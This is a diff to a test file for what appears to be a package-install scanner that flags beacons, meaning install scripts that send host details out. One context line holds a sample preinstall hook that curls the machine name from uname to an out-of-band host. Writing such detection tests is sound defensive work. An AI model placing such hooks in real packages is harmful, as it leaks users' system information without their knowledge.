@@ -356,6 +356,17 @@ https.get('https://storage.example.com/driver/' + platform + '/driver.zip', (res
     expect(['none', 'low']).toContain(r.level);
   });
 
+  it('the user name read for a per-user folder in one file, the network used in another: not shown to be a beacon (nx)', () => {
+    const r = run(fixture('big-tool', { scripts: { postinstall: 'node post.js' } }, {
+      'post.js': "require('./dirs.js');\nrequire('./http.js');\n",
+      'dirs.js': "const os = require('os');\nconst path = require('path');\nmodule.exports = path.join(os.tmpdir(), 'tool-' + os.userInfo().username);\n",
+      'http.js': "const https = require('https');\nhttps.get('https://cdn.example.com/tool/latest.json', () => {});\n",
+    }));
+    const beacon = r.findings.find((f) => f.messageId === 'hostBeacon');
+    expect(beacon?.weight).toBe(15);
+    expect(['none', 'low']).toContain(r.level);
+  });
+
   it('uname -a or -n (the machine name) sent out at install is still a beacon', () => {
     for (const flags of ['-a', '-n', '-sn']) {
       const r = run(fixture('probe', { scripts: { preinstall: `curl -s "https://x.oast.example/?h=$(uname ${flags})"` } }));
